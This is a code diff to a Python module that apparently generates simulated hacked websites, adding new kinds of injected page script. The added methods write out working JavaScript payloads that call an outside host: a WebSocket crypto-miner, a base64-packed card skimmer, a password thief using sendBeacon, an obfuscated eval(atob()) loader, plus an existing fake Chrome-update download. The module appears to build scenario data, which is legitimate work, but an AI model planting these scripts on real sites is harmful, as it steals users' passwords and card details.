@@ -1,5 +1,6 @@
 """Sites that strangers changed without gambling: defaced, phishing, with a malicious script."""
 
+import base64
 from html import escape
 from typing import ClassVar, Literal
 
@@ -101,9 +102,17 @@ class PhishingFront(Cause, frozen=True, kw_only=True, tag="phishing_front"):
 
 
 class MaliciousScript(Cause, frozen=True, kw_only=True, tag="malicious_script"):
-    """A stranger's script in the page: a miner, a thief of form data, a false browser update."""
+    """A stranger's script in the page: a miner, a thief of what is typed, a loader, a false update."""
 
-    what: Literal["miner", "skimmer", "fake_update"] = "miner"
+    what: Literal[
+        "miner",
+        "skimmer",
+        "fake_update",
+        "pool_miner",
+        "packed_skimmer",
+        "password_thief",
+        "loader",
+    ] = "miner"
     host: Host = "statik-pustaka.net"
     on_shared_host: ClassVar[bool] = True
     front_page: ClassVar[str] = "edits"
@@ -111,8 +120,7 @@ class MaliciousScript(Cause, frozen=True, kw_only=True, tag="malicious_script"):
     def plant(self, draft: Draft) -> None:
         """Put it at the end of the page for everybody."""
         draft.allow_scripts()
-        blocks = {"miner": self._miner, "skimmer": self._skimmer, "fake_update": self._update}
-        block = blocks[self.what]()
+        block = getattr(self, f"_{self.what}")()
         draft.edit(lambda html: markup.at_end(html, block))
 
     def _miner(self) -> str:
@@ -130,7 +138,7 @@ class MaliciousScript(Cause, frozen=True, kw_only=True, tag="malicious_script"):
             "+'&u='+encodeURIComponent(location.href);},true);</script>"
         )
 
-    def _update(self) -> str:
+    def _fake_update(self) -> str:
         return (
             '<div style="position:fixed;inset:0;background:#fff;z-index:99999;text-align:center">'
             "<h2>Peramban Anda usang</h2><p>Pasang pembaruan Chrome untuk melanjutkan.</p>"
@@ -138,6 +146,36 @@ class MaliciousScript(Cause, frozen=True, kw_only=True, tag="malicious_script"):
             "</div><script>setTimeout(function(){location.href='https://"
             f"{self.host}/unduh/ChromeUpdate.exe'}},8000)</script>"
         )
+
+    def _pool_miner(self) -> str:
+        return (
+            f"<script>var w=new Worker('/js/k.js'),s=new WebSocket('wss://pool.{self.host}:8443/');"
+            "s.onmessage=function(e){w.postMessage(JSON.parse(e.data))};w.onmessage=function(e){"
+            "s.send(JSON.stringify({method:'submit',params:{job_id:e.data.j,nonce:e.data.n}}))}"
+            "</script>"
+        )
+
+    def _packed_skimmer(self) -> str:
+        target = base64.b64encode(f"https://{self.host}/g?d=".encode()).decode()
+        return (
+            "<script>document.addEventListener('change',function(e){if(/card_number|cvv|kartu/"
+            f".test(e.target.name))fetch(atob('{target}')+e.target.value,{{mode:'no-cors'}})}},true)"
+            "</script>"
+        )
+
+    def _password_thief(self) -> str:
+        return (
+            "<script>setInterval(function(){var p=document.querySelector('input[type=password]');"
+            "if(p&&p.value&&p.value!==window._p){window._p=p.value;navigator.sendBeacon("
+            f"'https://{self.host}/k',p.value)}}}},700)</script>"
+        )
+
+    def _loader(self) -> str:
+        code = (
+            "var s=document.createElement('script');"
+            f"s.src='https://{self.host}/l.js';document.head.appendChild(s)"
+        )
+        return f"<script>eval(atob('{base64.b64encode(code.encode()).decode()}'))</script>"
 
     def consequence(self) -> Consequence:
         """A malicious script."""
